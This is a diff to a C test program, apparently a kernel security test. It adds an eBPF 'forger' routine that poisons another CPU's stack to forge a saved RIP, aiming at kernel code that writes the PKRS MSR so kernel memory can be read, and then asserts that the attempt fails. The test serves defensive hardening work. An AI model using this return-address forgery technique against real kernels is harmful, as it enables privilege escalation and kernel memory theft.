@@ -22,6 +22,7 @@
 #include <string.h>
 #include <sys/syscall.h>
 #include <unistd.h>
+#include <bpf/bpf.h>
 #include "build.h"
 
 #define SECONDS 30
@@ -41,7 +42,7 @@ struct order {
 static int map, prog;
 
 /* Words of the map; of R6, R9 and R10 of the spinning CPU; HOT has a breakpoint. */
-enum { FRAME, RUNS, CONTEXT, VALUE, HOT };
+enum { FRAME, RUNS, CONTEXT, VALUE, HOT, LAND, LOOT };
 
 static volatile bool over;
 
@@ -297,6 +298,98 @@ static bool fight(int round, bool isolated)
 	return dead;
 }
 
+/*
+ * A way out, if RIP is believed. What spins has in its registers what the kernel's code
+ * that writes an MSR is to write, PKRS, and nothing on its stack but the address where it
+ * goes on from there, to read the kernel's memory. The other CPU puts the address of that
+ * code where RIP is pushed.
+ */
+#define DEPTH 128
+#define PKRS 0x6e1
+
+static void load_forger(void)
+{
+	int poison, land;
+
+	cnt = 0;
+	E(MOV_REG(R6, R1), MOV_IMM(R2, 0), JMP_IMM(BPF_JNE, R1, 0, 1), LDX(BPF_B, R3, R2, 0),
+	  LDX(BPF_W, R7, R6, offsetof(struct xdp_md, data)), LD_MAP_VALUE(R9, map, 0),
+	  LDX(BPF_B, R2, R7, offsetof(struct order, mode)));
+	poison = cnt;
+	E(JMP_IMM(BPF_JEQ, R2, 2, 0));
+	land = cnt;
+	E(JMP_IMM(BPF_JEQ, R2, 3, 0));
+
+	E(LDX(BPF_DW, R5, R9, 8 * LAND));
+	for (int off = -DEPTH; off < 0; off += 8)
+		E(STX(BPF_DW, R10, R5, off));
+	E(STX(BPF_DW, R9, R10, 8 * FRAME), MOV_IMM(R4, 10000000), MOV_IMM(R1, PKRS),
+	  MOV_IMM(R2, 0), MOV_IMM(R3, 0), ALU64_IMM(BPF_SUB, R4, 1), JMP_IMM(BPF_JNE, R4, 0, -2),
+	  MOV_IMM(R0, 2), EXIT());
+
+	insns[poison].off = cnt - poison - 1;
+	E(LDX(BPF_DW, R4, R7, offsetof(struct order, rounds)),
+	  LDX(BPF_DW, R2, R7, offsetof(struct order, from)),
+	  LDX(BPF_DW, R0, R7, offsetof(struct order, poison[0])), STX(BPF_DW, R2, R0, 0),
+	  ALU64_IMM(BPF_SUB, R4, 1), JMP_IMM(BPF_JSGT, R4, 0, -3), MOV_IMM(R0, 2), EXIT());
+
+	insns[land].off = cnt - land - 1;
+	E(LD_IMM64(R2, target("data")), LDX(BPF_DW, R3, R2, 0), LD_MAP_VALUE(R1, map, 0),
+	  STX(BPF_DW, R1, R3, 8 * LOOT), MOV_IMM(R0, 2), EXIT());
+
+	prog = prog_load(xdp.type, "forger", insns, cnt);
+	if (prog < 0)
+		bail("load: %s\n%s", strerror(errno), prog_log);
+}
+
+/* Where in its image the program loads @value: movabs $value, %rsi */
+static u64 where_loaded(int fd, u64 value)
+{
+	static u8 image[4096];
+	u64 start = 0;
+	struct bpf_prog_info info = {
+		.jited_prog_insns = (uintptr_t)image, .jited_prog_len = sizeof(image),
+		.jited_ksyms = (uintptr_t)&start, .nr_jited_ksyms = 1,
+	};
+	u32 len = sizeof(info), i;
+
+	if (bpf_obj_get_info_by_fd(fd, &info, &len))
+		bail("info: %s", strerror(errno));
+	for (i = 0; start && i + 10 <= info.jited_prog_len; i++)
+		if (image[i] == 0x48 && image[i + 1] == 0xbe && !memcmp(image + i + 2, &value, 8))
+			return start + i;
+	bail("the image of a program is not to be had");
+}
+
+static void forged_rip(void)
+{
+	struct order o = { .mode = 2, .rounds = 100000, .poison = { target("wrmsr") } };
+	struct run run = { .data_in = &o, .data_in_size = sizeof(o), .repeat = 1 };
+	u64 words[64] = { 0 }, fp, until;
+	bool dead = false;
+	pthread_t thread;
+	u32 zero = 0;
+
+	canary_reset();
+	load_forger();
+	words[LAND] = where_loaded(prog, target("data"));
+	map_update(map, &zero, words);
+	kmsg_mark();
+	over = false;
+	pthread_create(&thread, NULL, spin, NULL);
+	until = now_ns() + 10000000000ULL;
+	while (!(fp = slot(FRAME)) && now_ns() < until)
+		usleep(100);
+	o.from = fp - DEPTH - 5 * 8;
+	while (fp && !dead && !slot(LOOT) && now_ns() < until)
+		dead = prog_run(prog, &run) || run.retval != xdp.pass;
+	over = true;
+	pthread_join(thread, NULL);
+	ok(!slot(LOOT), "nothing is read after an interrupt returns to what opens PKRS");
+	ok(kmsg_stopped(prog, "forger"), "that is stopped");
+	close(prog);
+}
+
 static bool good_program(void)
 {
 	const struct bpf_insn good[] = {
@@ -345,6 +438,8 @@ int main(void)
 		content[i] = canary(canaries[i]);
 	perf[0] = perf_on(1);
 	perf[1] = perf_on(2);
+	if (isolated)
+		forged_rip();
 	host_nmis(true);
 	until = now_ns() + SECONDS * 1000000000ULL;
 	while (now_ns() < until)
